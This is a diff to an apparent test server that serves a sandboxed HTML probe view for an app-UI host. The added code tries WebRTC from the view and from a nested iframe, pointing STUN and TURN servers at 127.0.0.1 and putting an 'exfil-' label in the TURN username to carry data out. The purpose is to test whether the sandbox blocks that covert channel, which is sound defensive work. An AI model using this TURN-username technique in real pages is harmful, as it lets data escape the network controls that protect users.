@@ -9,6 +9,12 @@ is a tool views may not call (``visibility: ["model"]``). The capabilities the c
 declared go to ``REPORT_FILE.initialize.json``.
 
 Run: ``python app_view_server.py REPORT_FILE DECLARED_ORIGIN UNDECLARED_ORIGIN``.
+
+With a fourth argument ``webrtc=TCP_PORT,UDP_PORT`` the view tries WebRTC instead, in its
+own frame and in a nested one it makes: a peer connection whose ICE servers are a STUN
+server on the UDP port and a TURN server (over TCP, its user name carrying data out) on the
+TCP port, both on 127.0.0.1; it reports what it found (``typeof RTCPeerConnection``, and
+whether gathering ran) once gathering ends.
 """
 
 from __future__ import annotations
@@ -53,12 +59,61 @@ request("ui/initialize", {protocolVersion: "2026-01-26", appInfo: {name: "probe"
 });
 </script></body></html>"""
 
+WEBRTC_VIEW = """<!doctype html><html><head><meta charset="utf-8"><title>webrtc probe</title></head>
+<body><h1>WebRTC probe</h1><script>
+const TCP = %(tcp)d, UDP = %(udp)d;
+let next = 1; const waiting = {};
+function send(msg) { window.parent.postMessage(msg, "*"); }
+function request(method, params) {
+  const id = next++; send({jsonrpc: "2.0", id, method, params});
+  return new Promise(resolve => { waiting[id] = resolve; });
+}
+async function attempt(w, where) {
+  const out = {};
+  try { out.type = typeof w.RTCPeerConnection; }
+  catch (e) { out.type = "inaccessible"; return out; }  // a sandboxed frame of another opaque origin
+  try {
+    const pc = new w.RTCPeerConnection({iceServers: [
+      {urls: ["stun:127.0.0.1:" + UDP]},
+      {urls: ["turn:127.0.0.1:" + TCP + "?transport=tcp"], username: "exfil-" + where, credential: "x"}]});
+    pc.createDataChannel("x");
+    await pc.setLocalDescription(await pc.createOffer());
+    await new Promise(done => {
+      if (pc.iceGatheringState === "complete") return done();
+      pc.addEventListener("icegatheringstatechange", () => { if (pc.iceGatheringState === "complete") done(); });
+      setTimeout(done, 10000);
+    });
+    out.gathered = true;
+  } catch (e) { out.error = String(e); }
+  return out;
+}
+window.addEventListener("message", async ev => {
+  if (ev.source !== window.parent) return;
+  const m = ev.data;
+  if (m.id !== undefined && waiting[m.id]) { waiting[m.id](m); delete waiting[m.id]; return; }
+  if (m.method === "ui/notifications/tool-result") {
+    const frame = document.createElement("iframe");
+    document.body.appendChild(frame);
+    const view = await attempt(window, "view");
+    const nested = frame.contentWindow ? await attempt(frame.contentWindow, "nested") : {type: "no frame"};
+    await request("tools/call", {name: "report", arguments: {view, nested}});
+  }
+});
+request("ui/initialize", {protocolVersion: "2026-01-26", appInfo: {name: "probe", version: "1"},
+                          appCapabilities: {}}).then(() => {
+  send({jsonrpc: "2.0", method: "ui/notifications/initialized", params: {}});
+});
+</script></body></html>"""
+
 URI = "ui://probe/view.html"
 
 
 def main() -> None:
     report_file, declared, undeclared = sys.argv[1:4]
     html = VIEW % {"declared": json.dumps(declared), "undeclared": json.dumps(undeclared)}
+    if len(sys.argv) > 4 and sys.argv[4].startswith("webrtc="):
+        tcp, udp = (int(port) for port in sys.argv[4].removeprefix("webrtc=").split(","))
+        html = WEBRTC_VIEW % {"tcp": tcp, "udp": udp}
     tools = [
         {"name": "show", "description": "Shows the probe view", "inputSchema": {"type": "object"},
          "_meta": {"ui": {"resourceUri": URI}}},
